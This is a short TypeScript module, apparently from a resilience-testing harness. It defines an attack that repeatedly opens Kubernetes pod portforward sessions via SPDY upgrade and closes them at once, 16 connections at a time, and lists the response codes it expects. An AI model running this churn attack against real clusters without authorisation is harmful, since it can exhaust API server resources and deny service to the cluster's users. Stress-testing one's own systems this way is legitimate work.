// Sessions of portforward that end at once.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

const PATH = '/api/v1/namespaces/default/pods/web-0/portforward'

export const attack: Attack = {
  reference: 'exec and portforward churn',
  does: 'opens sessions of portforward and closes them, 16 at once',
  who: ['known', 'unknown'],
  answers: ['101', '200', '401', '403', '502', '503'],
  run: (target, signal) => {
    const post = head1(target, `POST ${PATH}`, 'Connection: Upgrade', 'Upgrade: SPDY/3.1')
    return attackHttp1(target, signal, { connections: 16 }, (wire) => {
      const pieces = [post]
      return { next: () => pieces.shift(), answered: () => wire.close() }
    })
  },
}
